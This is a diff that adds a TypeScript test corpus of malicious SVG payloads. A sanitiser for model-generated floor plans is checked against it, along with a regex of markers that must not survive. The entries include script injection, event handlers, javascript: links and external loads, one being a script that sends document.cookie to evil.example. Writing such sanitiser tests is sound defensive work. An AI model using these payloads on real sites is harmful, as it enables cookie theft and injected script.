@@ -0,0 +1,61 @@
+// --- Malicious SVG Corpus ---
+// Payloads a model (or a prompt injection reaching it) could return as a "floor plan".
+// `sanitizeSVG` must neutralise every entry; `npm test` checks it with
+// `findSanitizerLeaks(sanitizeSVG)`. Not imported by the app.
+
+export type SvgAttack = {
+  name: string;
+  svg: string;
+};
+
+/** Markers that must never survive sanitisation. */
+const LEAK = /<script|javascript:|\bon[a-z]+\s*=|foreignObject|<use\b|<image\b|<a\b|<iframe|<style|<set\b|<animate|href|url\(|expression\(|@import|evil\.example/i;
+
+const wrap = (body: string, rootAttributes = '') =>
+  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100"${rootAttributes}>${body}</svg>`;
+
+export const SVG_ATTACK_CORPUS: SvgAttack[] = [
+  { name: 'script element', svg: wrap('<script>alert(1)</script><rect width="10" height="10"/>') },
+  { name: 'script with CDATA', svg: wrap('<script><![CDATA[fetch("https://evil.example/?c=" + document.cookie)]]></script>') },
+  { name: 'script in the xlink namespace', svg: wrap('<script xlink:href="https://evil.example/x.js"/>') },
+  { name: 'double-quoted handler on root', svg: wrap('<rect width="10" height="10"/>', ' onload="alert(1)"') },
+  { name: 'single-quoted handler on root', svg: wrap('<rect width="10" height="10"/>', " onload='alert(1)'") },
+  { name: 'upper-case handler', svg: wrap('<rect width="10" height="10" ONCLICK="alert(1)"/>') },
+  { name: 'handler without leading space', svg: wrap('<rect width="10"\nonmouseover="alert(1)" height="10"/>') },
+  { name: 'handler on nested text', svg: wrap('<g><text x="1" y="1" onfocusin="alert(1)" tabindex="0">Sala</text></g>') },
+  { name: 'javascript: link', svg: wrap('<a href="javascript:alert(1)"><rect width="10" height="10"/></a>') },
+  { name: 'javascript: xlink', svg: wrap('<a xlink:href="javascript:alert(1)"><text>Plano</text></a>') },
+  { name: 'entity-encoded javascript:', svg: wrap('<a href="&#106;avascript:alert(1)"><text>Plano</text></a>') },
+  { name: 'foreignObject with HTML', svg: wrap('<foreignObject width="100" height="100"><div xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></div></foreignObject>') },
+  { name: 'foreignObject with iframe', svg: wrap('<foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>') },
+  { name: 'HTML-namespaced script', svg: wrap('<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>') },
+  { name: 'use with external href', svg: wrap('<use href="https://evil.example/sprite.svg#a"/>') },
+  { name: 'use with data URL', svg: wrap('<use xlink:href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x"/>') },
+  { name: 'external image', svg: wrap('<image href="https://evil.example/track.png" width="1" height="1"/>') },
+  { name: 'style element with import', svg: wrap('<style>@import url("https://evil.example/x.css"); rect { fill: red }</style><rect width="10" height="10"/>') },
+  { name: 'style attribute with url()', svg: wrap('<rect width="10" height="10" style="fill:url(https://evil.example/track)"/>') },
+  { name: 'legacy CSS expression', svg: wrap('<rect width="10" height="10" style="width: expression(alert(1))"/>') },
+  { name: 'paint server url()', svg: wrap('<rect width="10" height="10" fill="url(https://evil.example/#p)"/>') },
+  { name: 'filter url()', svg: wrap('<rect width="10" height="10" filter="url(https://evil.example/f.svg#f)"/>') },
+  { name: 'mask url() in transform slot', svg: wrap('<g transform="translate(1,1) url(https://evil.example)"><rect width="10" height="10"/></g>') },
+  { name: 'animation rewriting href', svg: wrap('<a><set attributeName="href" to="javascript:alert(1)"/><text>Plano</text></a>') },
+  { name: 'animate on event', svg: wrap('<rect width="10" height="10"><animate attributeName="x" begin="click" to="javascript:alert(1)"/></rect>') },
+  { name: 'internal entity expansion', svg: `<!DOCTYPE svg [<!ENTITY a "evil.example evil.example evil.example"><!ENTITY b "&a;&a;&a;&a;">]>${wrap('<text>&b;</text>')}` },
+  { name: 'external stylesheet instruction', svg: `<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>${wrap('<rect width="10" height="10"/>')}` },
+  { name: 'root base URL', svg: wrap('<rect width="10" height="10"/>', ' xml:base="https://evil.example/"') },
+  { name: 'prototype-named attribute', svg: wrap('<rect width="10" height="10" constructor="x" __proto__="y"/>') },
+  { name: 'HTML disguised as SVG', svg: '<html><body><script>alert(1)</script></body></html>' },
+  { name: 'unclosed script (malformed XML)', svg: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script' },
+  { name: 'unquoted handler (malformed XML)', svg: '<svg xmlns="http://www.w3.org/2000/svg"><rect onclick=alert(1) /></svg>' },
+  // Roots without xmlns are parsed again in the SVG namespace, so they must be cleaned like any other.
+  { name: 'script without xmlns', svg: '<svg viewBox="0 0 100 100"><script>alert(1)</script><rect width="10" height="10"/></svg>' },
+  { name: 'handler on root without xmlns', svg: '<svg viewBox="0 0 100 100" onload="alert(1)"><rect width="10" height="10"/></svg>' },
+  { name: 'foreignObject without xmlns', svg: '<svg viewBox="0 0 100 100"><foreignObject width="100" height="100"><iframe src="https://evil.example"/></foreignObject></svg>' },
+  { name: 'link without xmlns', svg: '<svg viewBox="0 0 100 100"><a href="javascript:alert(1)"><text>Plano</text></a></svg>' },
+  { name: 'xmlns decoy in a comment', svg: '<!-- <svg --><svg viewBox="0 0 100 100" onload="alert(1)"><script>alert(1)</script></svg>' },
+  { name: 'undeclared xlink prefix without xmlns', svg: '<svg viewBox="0 0 100 100"><use xlink:href="https://evil.example/sprite.svg#a"/></svg>' },
+];
+
+/** Names of the corpus entries whose sanitised output still contains something dangerous. */
+export const findSanitizerLeaks = (sanitize: (svg: string) => string): string[] =>
+  SVG_ATTACK_CORPUS.filter(attack => LEAK.test(sanitize(attack.svg))).map(attack => attack.name);